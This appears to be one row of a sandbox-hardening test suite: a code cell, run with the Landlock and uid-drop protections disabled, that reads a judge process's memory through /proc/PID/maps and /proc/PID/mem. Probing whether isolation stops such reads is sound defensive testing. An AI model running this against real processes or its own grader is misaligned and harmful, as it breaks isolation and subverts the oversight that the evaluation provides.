# row: 5
# about: reads the judge's memory through /proc
# without: landlock uid_drop

# %% after
def read():
    low = int(open(f"/proc/{JUDGE_PID}/maps").readline().split("-")[0], 16)
    return os.pread(os.open(f"/proc/{JUDGE_PID}/mem", os.O_RDONLY), 4, low)

attempt(read)
